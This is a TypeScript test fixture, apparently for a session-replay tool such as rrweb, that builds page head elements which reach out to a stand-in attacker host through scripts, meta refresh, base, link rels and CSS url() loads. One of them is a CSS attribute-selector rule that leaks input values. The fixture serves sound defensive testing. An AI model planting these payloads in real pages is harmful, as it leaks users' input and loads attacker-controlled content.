import { type Hostility, hostileScript } from './hostile-script.ts';
import type { PageBuilder, TestNode } from './support/recorded-page.ts';

const LINK_RELS = [
  'stylesheet',
  'prefetch',
  'preload',
  'icon',
  'manifest',
  'modulepreload',
  'prerender',
  'preconnect',
  'dns-prefetch',
];

/** Scripts, links and styles that reach out from the head, and the honest `#a{color:rgb(1, 2, 3)}`. */
export function hostileHead(page: PageBuilder, { attacker, breaksRrweb }: Hostility): TestNode[] {
  const url = (path: string) => `${attacker}/${path}`;
  const css = [
    `@import url("${url('import.css')}");`,
    `@font-face{font-family:z;src:url(${url('font.woff')})}`,
    `body{font-family:z;background:url(${url('bg.png')});cursor:url(${url('cursor')}),auto}`,
    `input[value^="a"]{background:url(${url('exfil-a')})}`,
    `p::before{content:url(${url('content')})}`,
    `svg{filter:url(${url('filter.svg#f')});mask:url(${url('mask.svg#m')})}`,
    '#a{color:rgb(1, 2, 3)}',
  ].join(' ');
  const speculation = `{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}]}`;
  const policy = { 'http-equiv': 'content-security-policy', content: "style-src 'none'" };
  return [
    page.element('script', {}, [page.text(hostileScript('script-inline', attacker))]),
    page.element('script', { src: url('script.js') }),
    page.element('script', { type: 'speculationrules' }, [page.text(speculation)]),
    page.element('meta', { 'http-equiv': 'refresh', content: `1;url=${url('meta-refresh')}` }),
    page.element('meta', breaksRrweb ? policy : {}),
    page.element('base', { href: url('base/') }),
    ...LINK_RELS.map((rel) => page.element('link', { rel, href: url(`link-${rel}.css`), as: 'image' })),
    page.element('style', {}, [{ ...page.text(css), isStyle: true }]),
    page.element('style', { _cssText: `div{list-style-image:url(${url('csstext.png')});display:list-item}` }),
  ];
}
